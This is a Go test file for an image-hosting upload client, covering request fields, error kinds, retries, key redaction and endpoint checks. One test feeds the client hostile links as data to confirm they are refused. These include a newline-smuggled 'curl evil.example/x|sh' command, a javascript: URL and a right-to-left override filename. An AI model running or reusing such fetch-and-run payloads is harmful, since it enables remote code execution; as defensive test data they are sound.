package uploader_test

import (
	"bytes"
	"context"
	"errors"
	"image"
	"image/color"
	"image/png"
	"net/http"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"imagecx/uploader"
	"imagecx/uploader/cxtest"
)

var fastRetry = uploader.Retry{Attempts: 3, Base: time.Millisecond, Max: 5 * time.Millisecond, MaxElapsed: 10 * time.Second}

// setup starts a fake image.cx mounted under a path prefix, so a client
// that builds absolute URLs wrongly fails loudly.
func setup(t *testing.T, cfg cxtest.Config, opts ...uploader.Option) (*cxtest.Server, *uploader.Client) {
	t.Helper()
	if cfg.Prefix == "" {
		cfg.Prefix = "/chevereto"
	}
	srv := cxtest.NewServer(cfg)
	t.Cleanup(srv.Close)
	c := newClient(t, srv, srv.Key, opts...)
	return srv, c
}

func newClient(t *testing.T, srv *cxtest.Server, key string, opts ...uploader.Option) *uploader.Client {
	t.Helper()
	all := append([]uploader.Option{uploader.WithEndpoint(srv.URL + "/"), uploader.WithRetry(fastRetry), uploader.WithTimeout(2 * time.Second)}, opts...)
	c, err := uploader.New(key, all...)
	if err != nil {
		t.Fatal(err)
	}
	return c
}

func pngBytes(t testing.TB, w, h int) []byte {
	t.Helper()
	img := image.NewNRGBA(image.Rect(0, 0, w, h))
	for y := range h {
		for x := range w {
			img.Set(x, y, color.NRGBA{uint8(x), uint8(y), uint8(x ^ y), 255})
		}
	}
	var buf bytes.Buffer
	if err := png.Encode(&buf, img); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func TestUploadSendsWhatTheAPIExpects(t *testing.T) {
	srv, c := setup(t, cxtest.Config{})
	data := pngBytes(t, 64, 48)
	var lastSent, total int64
	res, err := c.Upload(context.Background(), "my shot.png", data, uploader.Options{
		Title: "Title", Description: "Desc", Tags: []string{"a", "b"}, AlbumID: "oHo", NSFW: true, Expiration: "PT5M",
		Progress: func(sent, tot int64) { lastSent, total = sent, tot },
	})
	if err != nil {
		t.Fatal(err)
	}
	reqs := srv.Requests()
	if len(reqs) != 1 {
		t.Fatalf("server got %d requests, want 1", len(reqs))
	}
	r := reqs[0]
	if r.Method != http.MethodPost || r.Path != "/chevereto/api/1/upload" {
		t.Errorf("request %s %s", r.Method, r.Path)
	}
	if got := r.Header.Get("X-API-Key"); got != srv.Key {
		t.Errorf("X-API-Key header = %q", got)
	}
	if r.Query != "" {
		t.Errorf("query %q: nothing may travel in the URL", r.Query)
	}
	if !strings.HasPrefix(r.Header.Get("Content-Type"), "multipart/form-data; boundary=") {
		t.Errorf("Content-Type %q", r.Header.Get("Content-Type"))
	}
	if r.FileField != "source" || r.FileName != "my shot.png" || r.ContentType != "image/png" || !bytes.Equal(r.Data, data) {
		t.Errorf("file part: field %q name %q type %q, %d bytes", r.FileField, r.FileName, r.ContentType, len(r.Data))
	}
	want := map[string]string{"format": "json", "title": "Title", "description": "Desc", "tags": "a,b", "album_id": "oHo", "nsfw": "1", "expiration": "PT5M"}
	for k, v := range want {
		if got := r.Fields[k]; len(got) != 1 || got[0] != v {
			t.Errorf("field %s = %q, want %q", k, got, v)
		}
	}
	for _, banned := range []string{"key", "image"} {
		if _, ok := r.Fields[banned]; ok {
			t.Errorf("field %q must never be sent", banned)
		}
	}
	if len(r.Fields) != len(want) {
		t.Errorf("fields %v: unexpected extras", r.Fields)
	}
	if res.Width != 64 || res.Height != 48 || res.Size != int64(len(data)) || res.MIME != "image/png" {
		t.Errorf("result %+v", res)
	}
	if !strings.HasPrefix(res.URL, srv.URL+"/images/") || !strings.HasSuffix(res.URL, "/my-shot.png") {
		t.Errorf("direct link %q", res.URL)
	}
	if res.ViewerURL == "" || res.ShortURL == "" || res.ThumbURL == "" || res.DeleteURL == "" || res.ID == "" {
		t.Errorf("links missing: %+v", res)
	}
	if res.Expires.IsZero() || time.Until(res.Expires) > 6*time.Minute {
		t.Errorf("expires %v", res.Expires)
	}
	if res.AwaitingApproval || res.Link() != res.URL {
		t.Errorf("not moderated, link %q", res.Link())
	}
	if total == 0 || lastSent != total {
		t.Errorf("progress ended at %d of %d", lastSent, total)
	}
	// The direct link serves the same bytes; the delete link was never touched.
	resp, err := http.Get(res.URL)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != 200 {
		t.Errorf("GET direct link: %s", resp.Status)
	}
	if srv.DeleteHits() != 0 {
		t.Errorf("the client fetched a delete link")
	}
}

func TestUploadModeratedFallsBackToViewer(t *testing.T) {
	_, c := setup(t, cxtest.Config{Moderated: true})
	res, err := c.Upload(context.Background(), "a.png", pngBytes(t, 8, 8), uploader.Options{})
	if err != nil {
		t.Fatal(err)
	}
	if !res.AwaitingApproval || res.URL != "" || res.Link() != res.ViewerURL || res.ViewerURL == "" {
		t.Fatalf("moderated result %+v", res)
	}
}

func TestUploadToleratesStringNumbers(t *testing.T) {
	_, c := setup(t, cxtest.Config{StringNumbers: true})
	res, err := c.Upload(context.Background(), "a.png", pngBytes(t, 30, 20), uploader.Options{})
	if err != nil {
		t.Fatal(err)
	}
	if res.Width != 30 || res.Height != 20 || res.Size == 0 || res.DeleteURL != "" {
		t.Fatalf("v3-style result %+v", res)
	}
}

func TestUploadErrors(t *testing.T) {
	cases := []struct {
		name     string
		fault    []cxtest.Fault
		key      string // "" = the server's key; "wrong" = a wrong one
		kind     error
		attempts int // requests the server sees
		temp     bool
		says     string // in the message, lower case
	}{
		{"wrong key", nil, "wrong", uploader.ErrBadKey, 1, false, "api key"},
		{"denied", []cxtest.Fault{cxtest.APIError(401, "Request denied")}, "", uploader.ErrDenied, 1, false, "not allowed"},
		{"empty source", []cxtest.Fault{cxtest.APIError(130, "Empty upload source")}, "", uploader.ErrRejected, 1, false, "empty"},
		{"too big (api)", []cxtest.Fault{cxtest.APIError(400, "File too big - max 5 MB")}, "", uploader.ErrTooLarge, 1, false, "too large"},
		{"too big (proxy 413)", []cxtest.Fault{cxtest.Status(413)}, "", uploader.ErrTooLarge, 1, false, "too large"},
		{"invalid image", []cxtest.Fault{cxtest.APIError(400, "Invalid image")}, "", uploader.ErrUnsupported, 1, false, "not accepted"},
		{"invalid mimetype", []cxtest.Fault{cxtest.APIError(612, "Invalid mimetype")}, "", uploader.ErrUnsupported, 1, false, "not accepted"},
		{"disabled format", []cxtest.Fault{cxtest.APIError(614, "Disabled image format (bmp)")}, "", uploader.ErrUnsupported, 1, false, "not accepted"},
		{"duplicate", []cxtest.Fault{cxtest.APIError(101, "Duplicated upload")}, "", uploader.ErrDuplicate, 1, false, "duplicate"},
		{"html 502 every time", []cxtest.Fault{cxtest.HTML502, cxtest.HTML502, cxtest.HTML502}, "", uploader.ErrServer, 3, true, "server failed"},
		{"flood: wait, not again now", []cxtest.Fault{cxtest.Flood, cxtest.Flood, cxtest.Flood}, "", uploader.ErrRateLimited, 1, true, "rate limited"},
		{"storage every time", []cxtest.Fault{cxtest.Storage, cxtest.Storage, cxtest.Storage}, "", uploader.ErrServer, 3, true, "storage"},
		{"429 every time", []cxtest.Fault{cxtest.TooMany429(0), cxtest.TooMany429(0), cxtest.TooMany429(0)}, "", uploader.ErrRateLimited, 3, true, "429"},
		{"reset after the upload was sent", []cxtest.Fault{cxtest.Reset, cxtest.Reset, cxtest.Reset}, "", uploader.ErrNetwork, 1, false, "may have arrived"},
		{"empty 200", []cxtest.Fault{cxtest.EmptyOK}, "", uploader.ErrBadResponse, 1, false, "empty answer (http 200)"},
		{"garbage json", []cxtest.Fault{cxtest.GarbageJSON}, "", uploader.ErrBadResponse, 1, false, "not valid json (http 200, application/json)"},
		{"404: wrong endpoint", []cxtest.Fault{cxtest.Status(404)}, "", uploader.ErrEndpoint, 1, false, "endpoint"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			srv, _ := setup(t, cxtest.Config{})
			key := srv.Key
			if tc.key == "wrong" {
				key = "chv_wrong_" + strings.Repeat("x", 64)
			}
			c := newClient(t, srv, key)
			srv.Script(tc.fault...)
			_, err := c.Upload(context.Background(), "a.png", pngBytes(t, 4, 4), uploader.Options{})
			if !errors.Is(err, tc.kind) {
				t.Fatalf("err = %v, want kind %v", err, tc.kind)
			}
			if got := len(srv.Requests()); got != tc.attempts {
				t.Errorf("server saw %d requests, want %d", got, tc.attempts)
			}
			if uploader.IsTemporary(err) != tc.temp {
				t.Errorf("temporary = %v, want %v", !tc.temp, tc.temp)
			}
			msg := err.Error()
			if !strings.Contains(strings.ToLower(msg), tc.says) {
				t.Errorf("message %q does not say %q", msg, tc.says)
			}
			if strings.Contains(msg, key) || strings.Contains(msg, "invalid character") || strings.Contains(msg, "<html") {
				t.Errorf("message leaks the key or raw parser/body text: %q", msg)
			}
			if len(srv.Stored()) != 0 {
				t.Errorf("something was stored")
			}
		})
	}
}

func TestTransientThenSuccessUploadsOnce(t *testing.T) {
	for _, f := range []cxtest.Fault{cxtest.Unavailable503, cxtest.HTML502, cxtest.TooMany429(0), cxtest.Storage} {
		srv, c := setup(t, cxtest.Config{})
		srv.Script(f)
		res, err := c.Upload(context.Background(), "a.png", pngBytes(t, 4, 4), uploader.Options{})
		if err != nil {
			t.Fatalf("after one %v: %v", f, err)
		}
		if n := len(srv.Requests()); n != 2 {
			t.Errorf("requests = %d, want 2", n)
		}
		if s := srv.Stored(); len(s) != 1 || s[0].ID != res.ID {
			t.Errorf("stored %d images, want exactly the one returned", len(s))
		}
	}
}

// A connection cut while the upload is still being sent cannot have
// stored it: that is sent again.
func TestResetWhileSendingIsSentAgain(t *testing.T) {
	// Far more than loopback's socket buffers hold, so the reset comes
	// while the body is still being written.
	srv, c := setup(t, cxtest.Config{MaxSize: 64 << 20}, uploader.WithMaxSize(64<<20))
	srv.Script(cxtest.ResetEarly)
	big := append([]byte("\x89PNG\r\n\x1a\n"), bytes.Repeat([]byte("imagecx!"), 40<<20/8)...)
	if _, err := c.Upload(context.Background(), "a.png", big, uploader.Options{}); err != nil {
		t.Fatal(err)
	}
	if n, s := len(srv.Requests()), len(srv.Stored()); n != 2 || s != 1 {
		t.Errorf("requests = %d, stored %d; want 2 and 1", n, s)
	}
	// Every time: the error says the connection was cut, in words.
	srv.Script(cxtest.ResetEarly, cxtest.ResetEarly, cxtest.ResetEarly)
	_, err := c.Upload(context.Background(), "a.png", big, uploader.Options{})
	var e *uploader.Error
	if !errors.As(err, &e) || e.Unanswered || !e.Temporary() {
		t.Fatalf("err = %#v", err)
	}
	if got := e.Explain(); !strings.Contains(got, "the connection was cut") || strings.Contains(got, "closed network") {
		t.Errorf("explained as %q", got)
	}
}

// An answer that is cut off after the server stored the upload, and a
// server that never answers once it has the upload: not sent again,
// which would store a second copy.
func TestMaybeStoredIsNotSentAgain(t *testing.T) {
	for _, f := range []cxtest.Fault{cxtest.CutOff, cxtest.Hang} {
		srv, c := setup(t, cxtest.Config{}, uploader.WithTimeout(300*time.Millisecond))
		srv.Script(f)
		_, err := c.Upload(context.Background(), "a.png", pngBytes(t, 4, 4), uploader.Options{})
		var e *uploader.Error
		if !errors.As(err, &e) || !errors.Is(err, uploader.ErrNetwork) || !e.Unanswered || uploader.IsTemporary(err) {
			t.Fatalf("%v: err = %v", f, err)
		}
		if n := len(srv.Requests()); n != 1 {
			t.Errorf("%v: requests = %d, want 1", f, n)
		}
		if !strings.Contains(e.Explain(), "may have arrived") {
			t.Errorf("%v: explained as %q", f, e.Explain())
		}
		// The next upload works.
		if _, err := c.Upload(context.Background(), "a.png", pngBytes(t, 4, 4), uploader.Options{}); err != nil {
			t.Fatal(err)
		}
	}
}

func TestCancelStopsAHungUpload(t *testing.T) {
	srv, c := setup(t, cxtest.Config{}, uploader.WithTimeout(time.Minute))
	srv.Script(cxtest.Hang)
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() {
		_, err := c.Upload(ctx, "a.png", pngBytes(t, 4, 4), uploader.Options{})
		done <- err
	}()
	for len(srv.Requests()) == 0 {
		time.Sleep(5 * time.Millisecond)
	}
	cancel()
	select {
	case err := <-done:
		if !errors.Is(err, uploader.ErrNetwork) || uploader.IsTemporary(err) || !strings.Contains(err.Error(), "cancelled") {
			t.Fatalf("err = %v", err)
		}
	case <-time.After(10 * time.Second):
		t.Fatal("upload did not stop after cancel")
	}
	if n := len(srv.Requests()); n != 1 {
		t.Errorf("requests = %d: cancel must not retry", n)
	}
}

func TestRetryAfter(t *testing.T) {
	// A short wait is waited out.
	srv, c := setup(t, cxtest.Config{}, uploader.WithRetry(uploader.Retry{Attempts: 2, Base: time.Millisecond, Max: 3 * time.Second, MaxElapsed: 10 * time.Second}))
	srv.Script(cxtest.TooMany429(1))
	start := time.Now()
	if _, err := c.Upload(context.Background(), "a.png", pngBytes(t, 4, 4), uploader.Options{}); err != nil {
		t.Fatal(err)
	}
	if n := len(srv.Requests()); n != 2 || time.Since(start) < time.Second {
		t.Errorf("requests = %d after %v; want 2 after Retry-After's second", n, time.Since(start))
	}
	// A long one is not waited out now, and not cut short: the error
	// says how long the site asks to wait.
	for _, tc := range []struct {
		f    cxtest.Fault
		want time.Duration
	}{{cxtest.TooMany429(3600), time.Hour}, {cxtest.Flood, time.Minute}, {cxtest.APIError(130, "Flooding detected. You can only upload 30 images per hour"), time.Hour}} {
		srv.Script(tc.f)
		before := len(srv.Requests())
		_, err := c.Upload(context.Background(), "a.png", pngBytes(t, 4, 4), uploader.Options{})
		if !errors.Is(err, uploader.ErrRateLimited) || uploader.RetryAfter(err) != tc.want || !uploader.IsTemporary(err) {
			t.Errorf("%v: err = %v, RetryAfter %v", tc.f, err, uploader.RetryAfter(err))
		}
		if n := len(srv.Requests()) - before; n != 1 {
			t.Errorf("%v: %d requests, want 1", tc.f, n)
		}
	}
}

func TestMaxElapsedBoundsRetries(t *testing.T) {
	srv, c := setup(t, cxtest.Config{}, uploader.WithRetry(uploader.Retry{Attempts: 100, Base: 50 * time.Millisecond, Max: 50 * time.Millisecond, MaxElapsed: 120 * time.Millisecond}))
	for range 100 {
		srv.Script(cxtest.Unavailable503)
	}
	_, err := c.Upload(context.Background(), "a.png", pngBytes(t, 4, 4), uploader.Options{})
	if !errors.Is(err, uploader.ErrServer) {
		t.Fatal(err)
	}
	if n := len(srv.Requests()); n >= 100 || n < 1 {
		t.Errorf("requests = %d: MaxElapsed must stop the retries early", n)
	}
}

func TestRefusedBeforeAnyRequest(t *testing.T) {
	srv, c := setup(t, cxtest.Config{}, uploader.WithMaxSize(1000))
	ctx := context.Background()
	cases := []struct {
		data []byte
		kind error
	}{
		{pngBytes(t, 200, 200), uploader.ErrTooLarge},
		{[]byte("just some text, not an image"), uploader.ErrUnsupported},
		{nil, uploader.ErrUnsupported},
	}
	for _, tc := range cases {
		if _, err := c.Upload(ctx, "x", tc.data, uploader.Options{}); !errors.Is(err, tc.kind) {
			t.Errorf("err = %v, want %v", err, tc.kind)
		}
	}
	noKey := newClient(t, srv, "")
	if _, err := noKey.Upload(ctx, "a.png", pngBytes(t, 4, 4), uploader.Options{}); !errors.Is(err, uploader.ErrNoKey) {
		t.Errorf("no key: %v", err)
	}
	if _, err := c.Upload(ctx, "a.png", pngBytes(t, 4, 4), uploader.Options{Expiration: "soon"}); err == nil {
		t.Error("a bad expiration must be refused")
	}
	if n := len(srv.Requests()); n != 0 {
		t.Errorf("server saw %d requests; all of these must fail before the network", n)
	}
}

func TestServerEchoingTheKeyIsRedacted(t *testing.T) {
	srv, _ := setup(t, cxtest.Config{})
	key := "chv_abc_" + strings.Repeat("k", 128)
	srv.AddKey(key)
	c := newClient(t, srv, key)
	srv.Script(cxtest.APIError(401, "Request denied for key "+key))
	_, err := c.Upload(context.Background(), "a.png", pngBytes(t, 4, 4), uploader.Options{})
	if err == nil || strings.Contains(err.Error(), key) || !strings.Contains(err.Error(), "[redacted]") {
		t.Fatalf("err = %v", err)
	}
}

func TestVerify(t *testing.T) {
	srv, c := setup(t, cxtest.Config{})
	if err := c.Verify(context.Background()); err != nil {
		t.Fatalf("good key: %v", err)
	}
	if len(srv.Stored()) != 0 {
		t.Error("Verify must not upload anything")
	}
	bad := newClient(t, srv, "chv_nope")
	if err := bad.Verify(context.Background()); !errors.Is(err, uploader.ErrBadKey) {
		t.Fatalf("bad key: %v", err)
	}
	dead, err := uploader.New(srv.Key, uploader.WithEndpoint("http://127.0.0.1:1"), uploader.WithRetry(uploader.Retry{}))
	if err != nil {
		t.Fatal(err)
	}
	if err := dead.Verify(context.Background()); !errors.Is(err, uploader.ErrNetwork) {
		t.Fatalf("unreachable: %v", err)
	}
}

func TestEndpoints(t *testing.T) {
	for _, ok := range []string{"https://image.cx", "https://image.cx/", "https://example.org/chevereto/", "http://127.0.0.1:8080", "http://localhost:1", "http://[::1]:9"} {
		if _, err := uploader.ParseEndpoint(ok); err != nil {
			t.Errorf("%s: %v", ok, err)
		}
	}
	for _, bad := range []string{"http://image.cx", "http://192.168.1.2", "ftp://image.cx", "image.cx", "", "https://user:pw@image.cx", "https://image.cx/?key=1"} {
		if _, err := uploader.ParseEndpoint(bad); !errors.Is(err, uploader.ErrEndpoint) {
			t.Errorf("%q: err = %v, want ErrEndpoint", bad, err)
		}
	}
	u, _ := uploader.ParseEndpoint("https://image.cx/")
	if u.String() != "https://image.cx" {
		t.Errorf("trailing slash kept: %s", u)
	}
}

// A server that hands out something other than one plain link: nothing of
// it reaches the clipboard, a notification or the history.
func TestHostileLinksAreRefused(t *testing.T) {
	srv, c := setup(t, cxtest.Config{})
	for _, link := range []string{
		"https://x.example/a.png\ncurl evil.example/x|sh #",
		"javascript:alert(1)",
		"https://x.example/" + strings.Repeat("a", 900<<10),
		"http://x.example/a.png",
		"https://user:pw@x.example/a.png",
		"https://x.example/a\u202egnp.exe",
		"https://x.example/a b.png",
		"//x.example/a.png",
		"https:",
	} {
		srv.Script(cxtest.Link(link))
		res, err := c.Upload(context.Background(), "a.png", pngBytes(t, 4, 4), uploader.Options{})
		if !errors.Is(err, uploader.ErrBadResponse) {
			t.Errorf("%.40q: res %+v, err %v", link, res, err)
			continue
		}
		if strings.Contains(err.Error(), "evil") || len(err.Error()) > 300 {
			t.Errorf("%.40q: the error repeats the link: %.100q", link, err)
		}
	}
	// Loopback http is a link (this server's own).
	if _, err := c.Upload(context.Background(), "a.png", pngBytes(t, 4, 4), uploader.Options{}); err != nil {
		t.Fatal(err)
	}
}

// What is sent is bounded, whatever a title template or a setting makes
// of it: the site keeps 100 characters of a title.
func TestLongFieldsAreCut(t *testing.T) {
	srv, c := setup(t, cxtest.Config{})
	title := strings.Repeat("é", 20<<20/2)
	if _, err := c.Upload(context.Background(), "a.png", pngBytes(t, 4, 4), uploader.Options{Title: title, Description: title, Tags: []string{title}}); err != nil {
		t.Fatal(err)
	}
	got := srv.Requests()[0].Fields
	if n := len([]rune(got["title"][0])); n != 100 || !utf8.ValidString(got["title"][0]) {
		t.Errorf("title of %d characters sent", n)
	}
	if n := len(got["description"][0]) + len(got["tags"][0]); n > 20000 {
		t.Errorf("description and tags of %d bytes sent", n)
	}
}
